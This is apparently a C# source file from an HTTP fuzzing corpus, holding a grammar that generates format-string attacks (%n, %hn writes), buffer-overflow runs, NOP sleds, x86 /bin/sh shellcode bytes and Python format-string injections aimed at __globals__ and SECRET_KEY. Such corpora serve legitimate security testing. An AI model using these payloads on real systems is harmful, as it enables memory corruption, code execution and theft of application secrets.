namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Format strings, long runs, shell code.</summary>
/// <remarks>OWASP WSTG-INPV-13, CAPEC-135, CAPEC-100, CWE-134, CWE-120.</remarks>
internal static class FormatStrings
{
    public const string Text = """"
        §format
        4× «fmt*2-14»
        2× «word»«fmt*2-8»
        %«#1-400»$«x¦s¦n¦p¦hn¦lx¦hhn¦08x»«¦%«#1-400»$«x¦s¦n¦hn»»
        %«#100-9999999»«d¦x¦s¦n¦c¦u»«¦%n¦%hn»
        %.«#100-16777215»«d¦x¦f»
        %«s%s%s%s%s%s%s%s¦n%n%n%n%n%n%n%n%n%n¦p%p%p%p%p%p%p¦x%x%x%x%x%x%x%x¦d%d%d%d%d%d%d»«fmt*0-6»
        \x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»%«#1-99»$«n¦x¦hn»
        AAAA«fmt*3-12»
        {0.__class__.__«init__.__globals__¦mro__¦dict__»«¦[«word»]»}
        {«word».__class__.__init__.__globals__«¦[«app¦config¦SECRET_KEY»]»}
        {0«.__class__¦!r:«num»¦:«#1000-99999999»d»}«¦{1}»
        %(«word»)s%(«word»)«d¦n»
        «$f:fmtone»«$f»«$f»
        %25«n¦s¦x¦p»%25«n¦s¦x¦p»%25«n¦s¦x¦p»«¦%25«n¦s¦x¦p»»
        §fmtone
        %«s¦n¦x¦p»%«s¦n¦x¦p»%«s¦n¦x¦p»
        §fmt
        5× %s
        5× %x
        4× %n
        3× %p
        2× %d
        2× %08x«¦.»
        %«#1-9»$«x¦s¦n»
        %.«#10-9999»d
        %«c¦i¦o¦u¦e¦f¦g¦a¦hn¦hhn¦lx¦ls¦llu¦#x¦#1234d¦99999999999s¦.1024d¦5000c»
        §overflow
        3× «bigrun»
        «word»=«bigrun»
        «sled*4-24»«¦\xcc\xcc¦\xeb\x1f\x5e¦\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e»
        %u9090%u9090«¦%u6858¦%u«hexdigit*4»%u«hexdigit*4»%u«hexdigit*4»»«sledu*1-10»
        \x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3«sled*0-6»
        «bigrun»%«n%n¦s%s¦c0%af¦00¦u9090%u«hexdigit*4»»
        «bigrun»«\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»¦BBBBCCCC¦%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»»
        §sled
        5× \x90
        \x«hexdigit*2»
        §sledu
        2× %u9090
        %u«hexdigit*4»
        §bigrun
        4× «a16*6-40»
        «x16*6-30»
        «b16*6-30»«¦«a16*2-9»»
        «cyclic*20-80»
        §a16
        AAAAAAAAAAAAAAAA
        §b16
        «BBBBBBBBBBBBBBBB¦CCCCCCCCCCCCCCCC»
        §x16
        «xxxxxxxxxxxxxxxx¦%41%41%41%41%41%41%41%41¦\x41\x41\x41\x41\x41\x41¦AAAA%x%x%x%n¦aaaaaaaaaaaaaaaa»
        §cyclic
        «A¦B»«a¦b¦c¦d»«#0-9»
        """";
}
